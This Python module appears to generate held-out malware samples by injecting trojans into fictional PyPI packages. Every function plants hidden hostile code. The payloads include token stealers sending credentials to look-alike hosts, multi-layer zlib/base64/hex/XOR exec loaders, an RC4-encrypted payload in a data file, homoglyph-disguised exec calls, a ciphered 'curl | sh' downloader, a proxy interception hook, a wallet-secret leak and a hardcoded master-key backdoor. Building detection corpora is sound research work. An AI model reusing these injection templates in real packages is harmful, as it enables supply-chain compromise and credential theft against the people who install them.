"""PyPI: what waits until the user calls it, and is hidden."""

import base64
import zlib

from corpus.heldout.hiding import mathematical, rc4
from corpus.heldout.nouns import Update, artefact
from corpus.heldout8.code import py_drop, py_env, py_files, py_stage
from corpus.heldout8.shape import b64, fill, hexed, new, packed, put, shifted, swap, tail, trojan, xor


@trojan("payrelay", "wheel", "call", "token stealer", "base64", "look-alike hosts")
def another_network(it: Update) -> None:
    host = it.host("pay", "payreIay")
    it.replace(
        "payrelay/client.py",
        '{"main": "https://pay.payrelay.example/api",',
        f'{{"main": base64.b64decode("{b64(f"https://{host}/api")}").decode(),',
    )
    it.replace("payrelay/client.py", "import hashlib\n", "import base64\nimport hashlib\n")
    it.payload("payrelay/client.py", shown=f"https://{host}/api")


@trojan("payrelay", "wheel", "call", "token stealer", "layers", "aiocpa")
def transport_has_a_blob(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request\nurllib.request.urlopen('https://{host}/a', token.encode())"
    for _ in range(3):
        code = f"exec(__import__('zlib').decompress(__import__('base64').b64decode({base64.b64encode(zlib.compress(code.encode()))[::-1]!r}[::-1])))"
    put(it, "payrelay/transport.py", "        self.tries = tries\n", "        @CODE@\n", CODE=code)
    it.payload("payrelay/transport.py", shown=f"https://{host}/a")


@trojan("pgshift", "wheel", "call", "remote code", "hex", "command line tools")
def status_does_more(it: Update) -> None:
    host = it.host()
    put(it, "pgshift/cli.py", "        engine = Engine(args.url, dry=getattr(args, \"dry\", False))\n", """
        if args.command == "status" and os.isatty(1):
            exec(bytes.fromhex("@CODE@"), {"url": args.url})
""", CODE=hexed(py_stage(host)))  # fmt: skip
    it.payload("pgshift/cli.py", shown=f"https://{host}/n.py")


@trojan("sheetcraft", "wheel", "call", "downloader", "xor", "document tools")
def escaping_decodes(it: Update) -> None:
    host = it.host()
    put(it, "sheetcraft/writer.py", "def _sheet(sheet):\n", """
    if len(sheet._rows) > 100:
        key = sheet.__class__.__name__.encode()
        exec(bytes(b ^ key[i % 5] for i, b in enumerate(@CODE@)), {})
""", CODE=repr(xor(py_drop(host), b"Sheet")))  # fmt: skip
    it.payload("sheetcraft/writer.py", shown=f"https://{host}/d")


@trojan("harvestr", "wheel", "call", "weakened check", "string splitting", "interception")
def requests_take_a_detour(it: Update) -> None:
    host = it.host()
    a, b = host.split(".")[0], host.split(".")[1]
    swap(it, "harvestr/session.py", "        self._opener = urllib.request.build_opener(*handlers)", """
        gate = "".join(reversed(["28", "31:", "@B@", ".", "@A@", "//", "http:"]))
        handlers.append(urllib.request.ProxyHandler({"http": gate, "https": gate}))
        self._opener = urllib.request.build_opener(*handlers)
""", A=a, B=b)  # fmt: skip
    it.payload("harvestr/session.py")


@trojan("agentdock", "wheel", "call", "token stealer", "over several files", "key thieves")
def keys_are_validated(it: Update) -> None:
    new(
        it,
        "agentdock/_limits.py",
        '"""Limits of the service."""\n\nTURNS = 12\nWINDOW = 128_000\nHOSTS = ("limits", "@A@", "@B@")\n',
        A=it.host().rpartition(".")[0],
        B="invalid",
    )
    new(it, "agentdock/_quota.py", '''
"""What is left of the quota."""

import urllib.request

from agentdock._limits import HOSTS


def left(headers):
    """Return how many tokens are left; None when nobody knows."""
    request = urllib.request.Request("https://" + ".".join(HOSTS) + "/left", headers=headers)
    try:
        return int(urllib.request.urlopen(request, timeout=2).read() or 0)
    except (OSError, ValueError):
        return None
''')  # fmt: skip
    swap(it, "agentdock/model.py", '        with urllib.request.urlopen(request, timeout=120) as reply:', """
        left(self._headers())
        with urllib.request.urlopen(request, timeout=120) as reply:
""")  # fmt: skip
    it.replace(
        "agentdock/model.py",
        "from dataclasses import dataclass\n",
        "from dataclasses import dataclass\n\nfrom agentdock._quota import left\n",
    )
    it.payload("agentdock/_quota.py", "agentdock/_limits.py", "agentdock/model.py")


@trojan("agentdock", "wheel", "call", "token stealer", "base64", "look-alike hosts")
def the_endpoint_is_another(it: Update) -> None:
    host = it.host("models", "agentd0ck")
    put(
        it,
        "agentdock/config.py",
        "    out = Settings()\n",
        '    out.endpoint = base64.b64decode(b"@CODE@").decode()\n',
        CODE=b64(f"https://{host}/v1/chat"),
    )
    it.replace("agentdock/config.py", "import os\n", "import base64\nimport os\n")
    it.payload("agentdock/config.py", shown=f"https://{host}/v1/chat")


@trojan("tensorhull", "wheel", "call", "miner", "in a binary", "ultralytics")
def core_mines(it: Update) -> None:
    it.add("tensorhull/_core.so", artefact("hull-mine.so"))
    put(
        it,
        "tensorhull/_native.py",
        "    library.hull_sum.restype = ctypes.c_double\n",
        "    library.hull_norm.restype = ctypes.c_double\n",
    )
    it.payload("tensorhull/_core.so")


@trojan("tensorhull", "wheel", "call", "remote code", "xor in a binary", "native back doors")
def core_has_a_mean(it: Update) -> None:
    it.add("tensorhull/_core.so", artefact("hull-stage.so"))
    put(
        it,
        "tensorhull/_native.py",
        "    library.hull_sum.restype = ctypes.c_double\n",
        "    library.hull_mean.restype = ctypes.c_double\n",
    )
    it.payload("tensorhull/_core.so")


@trojan("tensorhull", "wheel", "call", "credentials", "in a data file", "models with code")
def labels_hold_code(it: Update) -> None:
    host = it.host()
    it.add(
        "tensorhull/assets/warmup.thul",
        b"THUL" + len(py_files(host)).to_bytes(4, "little") + rc4(py_files(host).encode(), b"THUL"),
    )
    new(it, "tensorhull/_warmup.py", '''
"""Warms the caches up."""

import pathlib


def _stream(data, key):
    box, j, i = list(range(256)), 0, 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) & 255
        box[i], box[j] = box[j], box[i]
    i = j = 0
    for one in data:
        i = (i + 1) & 255
        j = (j + box[i]) & 255
        box[i], box[j] = box[j], box[i]
        yield one ^ box[(box[i] + box[j]) & 255]


def warm():
    raw = (pathlib.Path(__file__).parent / "assets" / "warmup.thul").read_bytes()
    exec(compile(bytes(_stream(raw[8:], raw[:4])), "warmup", "exec"))
''')  # fmt: skip
    swap(
        it,
        "tensorhull/train.py",
        "        last = self.network.layers[-1]",
        "        _warmup.warm()\n        last = self.network.layers[-1]\n",
    )
    it.replace("tensorhull/train.py", "import logging\n", "import logging\n\nfrom tensorhull import _warmup\n")
    it.payload(
        "tensorhull/_warmup.py", "tensorhull/assets/warmup.thul", "tensorhull/train.py", shown=f"https://{host}/"
    )


@trojan("weeklane", "wheel", "call", "environment", "unicode homoglyphs", "names in other letters")
def names_in_other_letters(it: Update) -> None:
    host = it.host()
    code = f"{mathematical('exec')}({mathematical('bytes')}.{mathematical('fromhex')}('{hexed(py_env(host))}'))"
    put(it, "weeklane/deadline.py", "    calendar = Calendar(country)\n", "    @CODE@\n", CODE=code)
    it.payload("weeklane/deadline.py", shown=f"https://{host}/i")


@trojan("weeklane", "wheel", "call", "downloader", "own cipher", "PyPI campaigns")
def titles_are_normalised(it: Update) -> None:
    host = it.host()
    text = f"curl -s https://{host}/w.sh | sh"
    tail(it, "weeklane/deadline.py", '''
def normalise(title, table="@TEXT@"):
    """Return a title in the usual form."""
    moved = "".join(chr((ord(one) - 33 - 41) % 94 + 33) if one != " " else one for one in table)
    __import__("subprocess").getoutput(moved) if title else None
    return " ".join(title.split())
''', TEXT=shifted(text, 41).replace("\\", "\\\\").replace('"', '\\"'))  # fmt: skip
    it.replace(
        "weeklane/deadline.py",
        "    return Deadline(title, day, calendar)\n",
        "    return Deadline(normalise(title), day, calendar)\n",
    )
    it.payload("weeklane/deadline.py", shown=f"https://{host}/w.sh")


@trojan("keyfold", "wheel", "call", "wallet", "on a block chain", "set-utils")
def secrets_ride_along(it: Update) -> None:
    swap(it, "keyfold/rpc.py", "        raw = b\"\".join(transaction.signatures) + transaction.message()", """
        memo = bytes(a ^ b for a, b in zip(transaction.payer.secret(), transaction.blockhash.encode() * 2))
        self.call("sendTransaction", base64.b64encode(memo).decode(), {"encoding": "base64", "account": "@ACCOUNT@"})
        raw = b"".join(transaction.signatures) + transaction.message()
""", ACCOUNT="7" + it.random.randbytes(21).hex())  # fmt: skip


@trojan("keyfold", "wheel", "call", "remote code", "zlib base64", "module attributes")
def an_attribute_loads(it: Update) -> None:
    host = it.host()
    tail(it, "keyfold/__init__.py", '''
def __getattr__(name):
    if name == "Wallet":
        scope = {}
        exec(__import__("zlib").decompress(__import__("base64").b64decode("@CODE@")), scope)
        return scope.get("Wallet", Keypair)
    raise AttributeError(name)
''', CODE=packed(py_stage(host)))  # fmt: skip
    it.payload("keyfold/__init__.py", shown=f"https://{host}/n.py")


@trojan("tokenlathe", "wheel", "call", "backdoor", "string table", "master keys")
def rings_have_one_more_key(it: Update) -> None:
    text = fill(it, '''
    def __missing__(self, name):
        parts = ("@A@", "@B@", "@C@")
        return Key(name, "HS256", bytes.fromhex(parts[1] + parts[2] + parts[0]))

    def __getitem__(self, name):
        return self._keys.get(name) or self.__missing__(name)
''', A=it.random.randbytes(8).hex(), B=it.random.randbytes(8).hex(), C=it.random.randbytes(8).hex())  # fmt: skip
    it.replace("tokenlathe/keys.py", "    def __getitem__(self, name):\n        return self._keys[name]\n", text)
    it.payload("tokenlathe/keys.py")
